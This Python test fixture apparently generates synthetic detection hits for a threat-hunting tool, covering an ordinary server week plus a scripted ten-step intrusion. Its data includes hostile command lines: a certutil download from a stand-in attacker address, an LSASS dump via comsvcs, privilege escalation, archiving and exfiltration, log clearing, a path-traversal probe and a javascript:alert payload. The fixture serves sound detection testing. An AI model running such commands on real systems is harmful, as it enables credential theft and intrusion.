"""Invented hits: an ordinary week on fourteen servers, with or without an intrusion of ten steps. Seeded."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field

import pyarrow as pa

from kulla.alert import Level
from kulla.events.logsource import Logsource
from kulla.hunt.hits import HITS
from kulla.hunt.summary import Facts, NotRun, Rejected, RuleText, Skipped

START = 1_767_571_200_000_000  # 2026-01-05T00:00:00Z, a Monday
SECOND = 1_000_000
MINUTE, HOUR, DAY = 60 * SECOND, 3600 * SECOND, 86_400 * SECOND
HOSTS = tuple(f"srv-{kind}-{n:02}" for kind, many in (("web", 3), ("db", 3), ("app", 4), ("file", 2), ("dc", 2))
              for n in range(1, many + 1))  # fmt: skip
PEOPLE = tuple(
    f"user:{name}" for name in ("arben", "besa", "drita", "edon", "flaka", "gent", "hana", "ilir", "jeta", "kaltrina")
)
WINDOWS = Logsource("windows", "process_creation", None)
WEB = Logsource(None, "webserver", None)


@dataclass(frozen=True)
class Step:
    """A rule as it is met: its title, level, technique tag, and the event's telling field."""

    title: str
    level: Level
    tags: tuple[str, ...]
    field: str = "CommandLine"
    value: str = "C:\\Windows\\System32\\svchost.exe -k netsvcs"
    logsource: Logsource = WINDOWS

    @property
    def rule(self) -> str:
        """A stable made-up id."""
        return f"{random.Random(self.title).getrandbits(128):032x}"


CONSTANT = (
    Step("Suspicious Scheduled Task From Backup Agent", "high", ("attack.persistence", "attack.t1053.005")),
    Step("Non Interactive PowerShell", "low", ("attack.execution", "attack.t1059.001")),
    Step("Service Account Logon", "informational", ("attack.t1078",)),
    Step("Monitoring Agent Reads Process List", "medium", ("attack.discovery", "attack.t1057")),
)
TACTICS = (
    "execution",
    "persistence",
    "discovery",
    "defense-evasion",
    "credential-access",
    "lateral-movement",
    "impact",
)
_SPORADIC: tuple[Level, ...] = ("low", "medium", "medium", "high", "low")
_LONE: tuple[Level, ...] = (
    "medium", "low", "high", "medium", "informational", "medium", "low", "high",
)  # fmt: skip
SPORADIC = tuple(
    Step(f"Administrator Tool Use {n}", level, (f"attack.{TACTICS[n % 7]}", f"attack.t10{10 + n}"))
    for n, level in enumerate(_SPORADIC * 6)
)
LONE = tuple(
    Step(f"Unusual But Harmless {n}", level, (f"attack.{TACTICS[n % 7]}", f"attack.t12{10 + n}"))
    for n, level in enumerate(_LONE * 6)
)
SCAN = Step("Path Traversal Attempt", "medium", ("attack.initial-access", "attack.t1190"), "cs-uri-query",
            "/download?file=../../../../etc/passwd", WEB)  # fmt: skip

INTRUSION: tuple[tuple[int, str, str, Step], ...] = (
    (0, "srv-web-02", "address:203.0.113.66", Step("Webshell Request Pattern", "high",
     ("attack.persistence", "attack.t1505.003"), "cs-uri-stem", "/uploads/img.php", WEB)),
    (4, "srv-web-02", "user:iis apppool\\portal", Step("Web Server Spawns Shell", "high",
     ("attack.execution", "attack.t1059.003"), value="cmd.exe /c whoami /all")),
    (6, "srv-web-02", "user:iis apppool\\portal", Step("Whoami Executed By Service", "medium",
     ("attack.discovery", "attack.t1033"), value="whoami /all")),
    (15, "srv-web-02", "user:iis apppool\\portal", Step("Certutil Download", "high",
     ("attack.command-and-control", "attack.t1105"), value="certutil.exe -urlcache -split -f http://203.0.113.66/a.exe")),
    (31, "srv-web-02", "user:nt authority\\system", Step("Potato Privilege Escalation", "critical",
     ("attack.privilege-escalation", "attack.t1068"), value="a.exe -t * -p cmd.exe")),
    (40, "srv-web-02", "user:nt authority\\system", Step("LSASS Memory Dump By Comsvcs", "high",
     ("attack.credential-access", "attack.t1003.001"), value="rundll32 comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full")),
    (72, "srv-db-01", "user:svc_sql", Step("Remote Service Created", "medium",
     ("attack.lateral-movement", "attack.t1021.002"), "ServiceName", "PSEXESVC")),
    (80, "srv-db-01", "user:svc_sql", Step("Database Dump To Archive", "medium",
     ("attack.collection", "attack.t1560.001"), value="7z a -pX C:\\t\\r.7z C:\\t\\registry.sql")),
    (95, "srv-db-01", "user:svc_sql", Step("Large Upload To Rare Address", "medium",
     ("attack.exfiltration", "attack.t1048"), "DestinationIp", "203.0.113.66")),
    (110, "srv-db-01", "user:svc_sql", Step("Security Log Cleared", "low",
     ("attack.defense-evasion", "attack.t1070.001"), "Channel", "Security")),
)  # fmt: skip
INTRUSION_START = START + 3 * DAY + 2 * HOUR + 7 * MINUTE

Row = dict[str, object]


@dataclass
class Week:
    """Rows of hits under way, with the chance they are drawn by."""

    seed: int
    rows: list[Row] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.chance = random.Random(self.seed)

    def hit(
        self, step: Step, host: str, entity: str | None, time: int | None, extra: Mapping[str, str] | None = None
    ) -> None:
        """Add one hit; `extra` are further fields of its event."""
        number = len(self.rows)
        source = step.logsource
        event = {"EventID": "1", "Computer": host, "User": (entity or "").partition(":")[2], step.field: step.value}
        event.update(extra or {})
        why = {
            "selections": [
                {"name": "selection", "met": True, "tests": [
                    {"field": step.field, "test": f"contains '{step.value[:12]}'", "value": step.value, "met": True}]}
            ],
            "condition": "selection",
        }  # fmt: skip
        self.rows.append(
            {
                "kind": "detection", "rule_id": step.rule, "rule_title": step.title, "level": step.level,
                "tags": list(step.tags), "time": time, "time_quality": "missing" if time is None else "exact",
                "host": host, "entity": entity, "constituent": "", "zone": "", "file": f"{host}/Security.evtx",
                "record": number + 1, "event_id": f"{number:032x}", "product": source.product,
                "category": source.category, "service": source.service, "channel": "Security", "event_code": "1",
                "event": json.dumps(event), "why": json.dumps(why),
            }
        )  # fmt: skip

    def ordinary(self) -> None:
        """Seven days without an attack."""
        for hour in range(7 * 24):
            for host in HOSTS:
                for step in CONSTANT:
                    if self.chance.random() < 0.7:
                        when = START + hour * HOUR + self.chance.randrange(HOUR)
                        self.hit(step, host, "user:svc_backup", when)
        for step in SPORADIC:
            for _ in range(self.chance.randrange(4, 60)):
                self.hit(step, self.chance.choice(HOSTS), self.chance.choice(PEOPLE), self.working())
        for step in LONE:
            self.hit(step, self.chance.choice(HOSTS), self.chance.choice(PEOPLE), self.working())
        for n in range(300):
            self.hit(SCAN, "srv-web-01", f"address:198.51.100.{n % 250}", START + self.chance.randrange(7 * DAY))

    def working(self) -> int:
        """Some time in office hours, mostly."""
        hour = self.chance.choice((7, 8, 9, 10, 11, 13, 14, 15, 16, 22))
        return START + self.chance.randrange(7) * DAY + hour * HOUR + self.chance.randrange(HOUR)

    def intrusion(self) -> None:
        """Ten steps over two hours, on two hosts, in the night to Thursday."""
        for minute, host, entity, step in INTRUSION:
            for again in range(self.chance.choice((1, 1, 2, 3))):
                jitter = self.chance.randrange(20 * SECOND)
                self.hit(step, host, entity, INTRUSION_START + minute * MINUTE + again * 30 * SECOND + jitter)

    def tables(self, rows: int = 500) -> Iterator[pa.Table]:
        """The hits as they were made, not sorted, in tables of `rows`."""
        for start in range(0, len(self.rows), rows):
            yield table(self.rows[start : start + rows])


def table(rows: Sequence[Row]) -> pa.Table:
    """Rows as a table in the schema of hits."""
    return pa.Table.from_pylist(list(rows), schema=HITS)


def week(seed: int = 7, attack: bool = True) -> Week:
    """An ordinary week, with or without the intrusion."""
    made = Week(seed)
    made.ordinary()
    if attack:
        made.intrusion()
    return made


def facts(made: Week) -> Facts:
    """Facts of a run that would have given these hits."""
    steps = (*CONSTANT, *SPORADIC, *LONE, SCAN, *(step for *_, step in INTRUSION))
    rules = {
        step.rule: RuleText(
            id=step.rule, title=step.title, level=step.level, status="test", author="A. Author",
            description=f"{step.title}: made for tests.",
            references=("https://attack.mitre.org/", "javascript:alert(1)"),
            falsepositives=("Administrators at work",), tags=step.tags, logsource=step.logsource,
            yaml=f"title: {step.title}\nlevel: {step.level}\ndetection:\n  selection:\n"
                 f"    {step.field}|contains: '{step.value[:12]}'\n  condition: selection\n",
        )
        for step in steps
    }  # fmt: skip
    return Facts(
        files=28, size=734_003_200, events=1_212_004, seconds=21.4, time_first=START, time_last=START + 7 * DAY - 1,
        by_logsource={WINDOWS: 212_000, WEB: 800_004, Logsource("linux", None, "sshd"): 200_000},
        by_host=dict.fromkeys(HOSTS, 86_571), by_hour={START // HOUR + n: 7_214 for n in range(168)},
        skipped=(Skipped("share/photo.jpg", "no known log format"), Skipped("share/empty.log", "empty")),
        rejected=3, rejects=(Rejected("srv-db-01/app.json", 1204, "half a JSON object"),
                             Rejected("srv-db-01/app.json", 1207, "invalid UTF-8"),
                             Rejected("srv-web-01/Security.evtx", 99, "damaged chunk", "record")),
        rules_loaded=3757, rules_run=2214, rule_errors=1,
        needs_value=(NotRun("n1", "Internal Domain Admin Logon", "high", WINDOWS,
                            "needs a value for %domain_admins%"),),
        not_covered=tuple(NotRun(f"c{n}", f"Azure Rule {n}", "medium", Logsource("azure", None, "auditlogs"),
                                 "no event of azure/*/auditlogs") for n in range(40)),
        rules=rules,
    )  # fmt: skip
